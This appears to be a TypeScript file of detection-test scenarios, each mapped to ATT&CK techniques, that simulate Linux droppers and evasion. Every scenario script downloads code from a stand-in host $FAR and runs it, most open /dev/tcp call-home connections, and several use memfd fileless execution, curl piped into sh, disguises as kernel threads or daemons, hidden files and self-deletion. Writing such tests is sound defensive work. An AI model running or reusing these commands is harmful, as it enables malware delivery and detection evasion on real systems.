import { scenarios, WWW_DATA } from "../scenario.ts";

const DROP = ["T1105", "T1059", "T1059.004", "T1204", "T1222", "T1222.002"] as const;
const FILELESS = ["T1620", ...DROP] as const;
const DECODED = [...DROP, "T1027"] as const;
/** What a copy of bash runs: nothing that anybody would miss. */
const RUN = "-c 'id; uname -a; i=0; while [ $i -lt 40 ]; do i=$((i+1)); read -r -t 0.05 < /dev/zero; done'";
const CALL_HOME = "-c 'exec 3<>/dev/tcp/'$FAR'/8443; id; read -r -t 2 <&3'";

/** Programs that come from outside and are run. */
export const DROPPERS = scenarios([
  {
    id: "dropper.curl",
    title: "curl, chmod, run; the program calls home",
    techniques: DROP,
    needs: ["curl"],
    quick: true,
    script: `act; curl -s -o /tmp/update http://$FAR/payload; chmod +x /tmp/update; /tmp/update ${CALL_HOME}`,
  },
  {
    id: "dropper.wget-renamed",
    title: "wget into a hidden file named like a system daemon",
    techniques: [...DROP, "T1036", "T1036.005", "T1564", "T1564.001"],
    variant: "renamed",
    uid: WWW_DATA,
    needs: ["wget"],
    script: `act; wget -q -O /var/tmp/.systemd-resolved http://$FAR/payload; chmod 755 /var/tmp/.systemd-resolved; /var/tmp/.systemd-resolved ${CALL_HOME}`,
  },
  {
    id: "dropper.across-processes",
    title: "one child downloads, one moves, another line of processes runs it",
    techniques: DROP,
    needs: ["curl"],
    seconds: 12,
    script: `act; (curl -s -o $HOOD/a http://$FAR/payload); (mv $HOOD/a $HOOD/b; chmod +x $HOOD/b); setsid sh -c "sleep 1; $HOOD/b -c 'id; exec 3<>/dev/tcp/'$FAR'/8443; read -r -t 1 <&3'" & wait`,
  },
  {
    id: "dropper.slow",
    title: "downloads, waits four seconds, runs it under another name",
    techniques: DROP,
    variant: "slow",
    needs: ["curl"],
    seconds: 14,
    script: `curl -s -o $HOOD/report.pdf http://$FAR/payload; sleep 4; cp $HOOD/report.pdf $HOOD/report; chmod +x $HOOD/report; act; $HOOD/report ${CALL_HOME}`,
  },
  {
    id: "dropper.base64",
    title: "a program decoded from base64 on the way",
    techniques: DECODED,
    needs: ["curl", "base64"],
    script: `act; curl -s http://$FAR/payload.b64 | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x ${CALL_HOME}`,
  },
  {
    id: "dropper.gzip",
    title: "a program unpacked on the way",
    techniques: DECODED,
    needs: ["curl", "gzip"],
    script: `act; curl -s http://$FAR/payload.gz | gzip -dc > /dev/shm/kdevtmpfs; chmod +x /dev/shm/kdevtmpfs; /dev/shm/kdevtmpfs ${CALL_HOME}`,
  },
  {
    id: "dropper.curl-sh",
    title: "curl into sh",
    techniques: DROP,
    needs: ["curl"],
    uid: WWW_DATA,
    script: "act; curl -s http://$FAR/script.sh | sh; sleep 1",
  },
  {
    id: "dropper.python-script",
    title: "a downloaded script that python runs",
    techniques: [...DROP, "T1059.006"],
    variant: "scripted",
    needs: ["python3", "curl"],
    script: "act; curl -s -o /tmp/job.py http://$FAR/script.py; python3 /tmp/job.py; sleep 1",
  },
  {
    id: "dropper.python-all",
    title: "python downloads, writes, and runs the program: no tool of the system",
    techniques: [...DROP, "T1059.006"],
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import os,urllib.request as u
p="/tmp/.cache-update"
open(p,"wb").write(u.urlopen("http://"+os.environ["FAR"]+"/payload").read()); os.chmod(p,0o700)
os.execv(p,[p,"-c","id; exec 3<>/dev/tcp/$FAR/8443; read -r -t 1 <&3"])'`,
  },
  {
    id: "dropper.interleaved",
    title: "curl, chmod, run, while the server goes on serving",
    techniques: DROP,
    variant: "interleaved",
    needs: ["curl"],
    script: `sleep 1; act; curl -s -o /tmp/worker http://$FAR/payload; chmod +x /tmp/worker; /tmp/worker ${CALL_HOME}`,
  },
  {
    id: "hidden.memfd",
    title: "a program run from memory (memfd_create), without a file",
    techniques: FILELESS,
    variant: "scripted",
    needs: ["python3"],
    quick: true,
    script: `act; python3 -c 'import os,urllib.request as u
b=u.urlopen("http://"+os.environ["FAR"]+"/payload").read()
fd=os.memfd_create("x",0); os.write(fd,b)
os.execv("/proc/self/fd/%d"%fd,["kworker","-c","id; exec 3<>/dev/tcp/$FAR/8443; read -r -t 1 <&3"])'`,
  },
  {
    id: "hidden.deleted",
    title: "a program that deletes its own file and goes on",
    techniques: ["T1070.004", "T1070", "T1564", "T1036", ...DROP],
    needs: ["curl"],
    script: `act; curl -s -o $HOOD/agent http://$FAR/payload; chmod +x $HOOD/agent; $HOOD/agent -c 'rm -f '$HOOD'/agent; exec 3<>/dev/tcp/'$FAR'/8443; read -r -t 1 <&3; exec /proc/self/exe -c "id; sleep 1"'`,
  },
  {
    id: "hidden.shm-dot",
    title: "a hidden program in /dev/shm under a name of one space",
    techniques: ["T1564", "T1564.001", "T1036", "T1036.005", ...DROP],
    variant: "renamed",
    script: `act; mkdir -p '/dev/shm/...'; cp /bin/bash '/dev/shm/.../ '; '/dev/shm/.../ ' ${RUN}`,
  },
  {
    id: "hidden.kernel-name",
    title: "a program that calls itself like a kernel thread",
    techniques: ["T1036", "T1036.005", "T1036.011", ...DROP],
    variant: "renamed",
    script: `act; cp /bin/bash /tmp/.k; bash -c 'exec -a "[kworker/0:1]" /tmp/.k ${RUN.replaceAll("'", `'\\''`)}'`,
  },
]);
